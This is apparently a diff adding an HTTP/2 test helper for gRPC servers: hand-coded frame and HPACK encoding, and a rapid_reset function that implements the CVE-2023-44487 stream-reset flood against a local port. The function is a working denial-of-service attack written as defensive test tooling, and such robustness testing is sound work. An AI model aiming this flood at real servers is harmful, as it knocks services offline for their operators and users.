@@ -1,0 +1,72 @@
+"""A hand-made HTTP/2 client's pieces, for tests that need frames no gRPC library sends:
+windows of 0 bytes, resets at chosen moments, floods of streams."""
+import socket
+import struct
+import threading
+
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+SETTINGS_INITIAL_WINDOW_SIZE = 4
+CANCEL = 8
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    """HPACK literal header field without indexing, new name, no Huffman coding."""
+    def string(s):
+        b = s.encode()
+        assert len(b) < 127
+        return bytes([len(b)]) + b
+    return b"\x00" + string(name) + string(value)
+
+
+def read_frame(sock):
+    head = b""
+    while len(head) < 9:
+        chunk = sock.recv(9 - len(head))
+        assert chunk, "the server closed the connection"
+        head += chunk
+    length = struct.unpack(">I", b"\x00" + head[:3])[0]
+    payload = b""
+    while len(payload) < length:
+        chunk = sock.recv(length - len(payload))
+        assert chunk, "the server closed the connection"
+        payload += chunk
+    return head[3], head[4], struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF, payload
+
+
+def headers_block(port, path, extra=()):
+    """The request headers of a gRPC call to path on 127.0.0.1:port, HPACK-encoded."""
+    return b"".join(literal(k, v) for k, v in [
+        (":method", "POST"), (":scheme", "http"), (":path", path),
+        (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
+        ("te", "trailers")] + list(extra))
+
+
+def rapid_reset(port, path, streams, extra=()):
+    """HTTP/2 rapid reset (CVE-2023-44487): on one connection, HEADERS of a call to path and
+    at once RST_STREAM, for `streams` streams, as fast as the socket takes them; what comes
+    back is read and dropped. Returns when everything is sent (or the peer closed)."""
+    block = headers_block(port, path, extra)
+    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
+
+        def drain():
+            try:
+                while sock.recv(65536):
+                    pass
+            except OSError:
+                pass
+        reader = threading.Thread(target=drain, daemon=True)
+        reader.start()
+        reset = struct.pack(">I", CANCEL)
+        try:
+            for first in range(0, streams, 200):
+                sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
+                                      frame(RST_STREAM, 0, 2 * i + 1, reset)
+                                      for i in range(first, min(first + 200, streams))))
+        except OSError:
+            pass  # the peer closed the connection: that is one way to refuse it
